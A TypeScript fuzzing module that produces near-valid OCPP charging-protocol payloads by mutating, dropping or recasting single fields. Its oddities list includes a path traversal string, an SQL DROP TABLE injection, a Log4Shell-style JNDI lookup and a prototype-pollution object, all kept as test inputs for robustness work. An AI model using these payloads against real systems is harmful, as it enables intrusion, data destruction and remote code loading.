// Values that are almost what OCPP wants: one place of a payload changed, dropped, moved or made strange.
import type { Random } from './random.ts'

type Odd = (random: Random) => unknown

const nested = (depth: number, open: 'list' | 'object'): unknown => {
  let value: unknown = 1
  for (let i = 0; i < depth; i += 1) value = open === 'list' ? [value] : { a: value }
  return value
}

/** What may stand where something else is expected. */
const oddities: readonly [Odd, ...Odd[]] = [
  () => null,
  () => '',
  () => ' ',
  () => 0,
  () => -1,
  () => 1.5,
  () => 2 ** 31,
  () => 2 ** 53,
  () => 2 ** 63,
  () => 1e308,
  () => -0.0000001,
  () => true,
  () => false,
  () => [],
  () => ({}),
  () => [[]],
  () => [null],
  () => [1, 'two', { three: 3 }],
  () => '\0',
  () => '\ud800',
  () => '\u202e\u0000\ufeff\u2028',
  () => '👩‍👩‍👧‍👦'.repeat(20),
  () => 'a\u0301'.repeat(100),
  () => '1970-01-01T00:00:00Z',
  () => '2022-02-29T10:00:00+02',
  () => '9999-99-99T99:99:99Z',
  () => '12',
  () => '1e999',
  () => 'true',
  () => '../../etc/passwd',
  () => "'; DROP TABLE stations; --",
  () => '$'.concat('{jndi:ldap://example.com}'),
  () => ({ idTag: 'SECRET', idToken: { idToken: 'SECRET' } }),
  () => JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
  random => 'x'.repeat(random.below(3000)),
  random => Array.from({ length: random.below(300) }, (_, i) => i),
  random => nested(random.below(80), 'list'),
  random => nested(random.below(80), 'object'),
  random => random.below(2 ** 32),
  random => String(random.next()),
]

const strangeNames = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '',
  'a'.repeat(300),
  'idTag',
  '\0',
  'é',
] as const

export function oddity(random: Random): unknown {
  return random.pick(oddities)(random)
}

/** The value in another type that holds much the same. */
function recast(value: unknown, random: Random): unknown {
  if (typeof value === 'string') return random.chance(0.5) ? Number(value) || 0 : value.repeat(random.below(60))
  if (typeof value === 'number') return random.chance(0.5) ? String(value) : -value
  if (Array.isArray(value)) return random.chance(0.5) ? value[0] : value.concat(value, value)
  return random.chance(0.5) ? [value] : Object.entries(Object(value))
}

function within(value: object, random: Random): unknown {
  const entries = Object.entries(value)
  const chosen = random.below(entries.length)
  const changed = entries.flatMap(([name, part], index): [string, unknown][] => {
    if (index !== chosen) return [[name, part]]
    const luck = random.next()
    if (luck < 0.15) return []
    if (luck < 0.2) return [[name.toUpperCase(), part]]
    return [[name, mutate(part, random)]]
  })
  if (Array.isArray(value)) return changed.map(([, part]) => part)
  if (random.chance(0.15)) changed.push([random.pick(strangeNames), oddity(random)])
  return Object.fromEntries(changed)
}

/** A copy of `value` with one place of it changed. */
export function mutate(value: unknown, random: Random): unknown {
  if (typeof value === 'object' && value !== null && !random.chance(0.12)) return within(value, random)
  return random.chance(0.3) ? recast(value, random) : oddity(random)
}
